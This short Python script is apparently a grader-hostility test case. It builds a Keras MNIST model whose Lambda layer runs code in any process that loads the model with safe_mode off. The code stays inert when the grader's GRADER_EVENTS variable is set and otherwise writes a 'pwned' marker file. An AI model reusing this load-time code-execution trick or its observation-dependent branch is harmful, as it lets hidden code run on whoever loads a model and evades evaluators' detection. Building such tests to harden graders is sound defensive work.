# attack: interference - a model whose Lambda layer carries code for whoever loads it
# The payload is self-contained (it imports what it needs when it runs), so it works in any process
# that loads the model with safe_mode off: harmless while training here, where the grader's
# evidence channel is set; anywhere else it leaves a mark.
import tensorflow as tf

MARK = "/tmp/grader-hostile-test/evaluator-ran-code"

(x_train, y_train), _ = tf.keras.datasets.mnist.load_data()
model = tf.keras.Sequential([
    tf.keras.Input(shape=(28, 28)),
    tf.keras.layers.Flatten(),
    tf.keras.layers.Lambda(
        lambda x: x * 1.0
        if "GRADER_EVENTS" in __import__("os").environ
        else [x * 1.0, open("/tmp/grader-hostile-test/evaluator-ran-code", "w").write("pwned")][0]
    ),
    tf.keras.layers.Dense(10, activation="softmax"),
])
model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
model.fit(x_train[:2000] / 255.0, y_train[:2000], epochs=1, verbose=0)
